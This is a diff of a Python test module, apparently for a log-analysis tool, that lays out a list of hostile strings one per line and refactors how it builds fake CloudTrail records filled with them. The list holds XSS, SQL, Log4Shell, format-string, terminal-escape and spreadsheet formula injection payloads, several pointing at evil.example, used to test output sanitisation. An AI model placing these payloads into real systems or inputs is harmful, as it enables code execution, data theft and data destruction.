@@ -15,13 +15,43 @@ from bars.harness import ANY_EVENT, Bar, Context, Outcome, delivery, event, run_
 __all__ = ["SHOWING", "hostile_texts"]
 
 SEEDS = (
-    "\x1b[2J\x1b[H", "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "\x1b]52;c;ZXZpbA==\x07",
-    "\x9b31m", "\x90q\x9c", "\r overwritten", "\b\b\b", "\x07", "\x00", "\u202eexe.txt", "\u2066x\u2069",
-    "\u200b", "\ufeff", "\u2028", "[link=https://evil.example]x[/link]", "[/]", "[bold red]", "{0.__class__}",
-    "<script>window.__canary=1</script>", '"><img src=x onerror=alert(1)>', "</style><script>", "javascript:1",
-    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\n=1", "\uff1d1+1", '=HYPERLINK("http://evil.example")', ";=1",
-    '{"kind":"finding"}', '\n{"kind":"finding"}', "${jndi:ldap://evil.example}", "%s%n", "'; DROP TABLE x; --",
-)  # fmt: skip
+    "\x1b[2J\x1b[H",
+    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
+    "\x1b]52;c;ZXZpbA==\x07",
+    "\x9b31m",
+    "\x90q\x9c",
+    "\r overwritten",
+    "\b\b\b",
+    "\x07",
+    "\x00",
+    "\u202eexe.txt",
+    "\u2066x\u2069",
+    "\u200b",
+    "\ufeff",
+    "\u2028",
+    "[link=https://evil.example]x[/link]",
+    "[/]",
+    "[bold red]",
+    "{0.__class__}",
+    "<script>window.__canary=1</script>",
+    '"><img src=x onerror=alert(1)>',
+    "</style><script>",
+    "javascript:1",
+    "=1+1",
+    "+1",
+    "-1",
+    "@SUM(A1)",
+    "\t=1",
+    "\n=1",
+    "\uff1d1+1",
+    '=HYPERLINK("http://evil.example")',
+    ";=1",
+    '{"kind":"finding"}',
+    '\n{"kind":"finding"}',
+    "${jndi:ldap://evil.example}",
+    "%s%n",
+    "'; DROP TABLE x; --",
+)
 
 
 def hostile_texts(context: Context, number: int) -> list[str]:
@@ -41,11 +71,11 @@ def _hostile_logs(context: Context, number: int) -> list[str]:
             "userName": text,
             "accessKeyId": text,
         }
-        records.append(event(
-            at, userAgent=text, sourceIPAddress=text, awsRegion=text, errorCode=text, errorMessage=text,
-            eventName=f"Describe{text}", eventSource=text, recipientAccountId=text, userIdentity=identity,
-            requestParameters={text: text, "name": text}, eventID=f"{at}{text}",
-        ))  # fmt: skip
+        names = ("userAgent", "sourceIPAddress", "awsRegion", "errorCode", "errorMessage")
+        more: dict[str, Any] = dict.fromkeys((*names, "eventSource", "recipientAccountId"), text)
+        more |= {"eventName": f"Describe{text}", "userIdentity": identity, "eventID": f"{at}{text}"}
+        more["requestParameters"] = {text: text, "name": text}
+        records.append(event(at, **more))
     (context.folder / "h.json").write_bytes(delivery(records))
     rule = ANY_EVENT.replace(
         "title: any", f"title: {json.dumps(''.join(SEEDS[:8]), ensure_ascii=True)}"
@@ -111,7 +141,7 @@ def w4(context: Context) -> Outcome:
     )
 
 
-def d2(context: Context) -> Outcome:  # noqa: ARG001 - every bar takes its context
+def d2(context: Context) -> Outcome:
     """Without the linear-time engine Trailhawk refuses to start and says why."""
     hide = (
         "import sys; sys.modules['re2'] = None\n"
